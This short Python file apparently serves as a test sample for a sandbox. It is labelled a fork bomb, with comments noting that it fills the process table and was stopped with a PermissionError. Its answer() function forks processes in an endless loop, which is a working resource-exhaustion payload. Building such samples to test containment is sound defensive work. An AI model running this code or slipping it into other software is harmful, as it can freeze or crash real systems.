"""A fork bomb."""
# says: stopped with PermissionError
# danger: fills the process table
import os


def answer(*args, **kwargs):
    while True:
        os.fork()
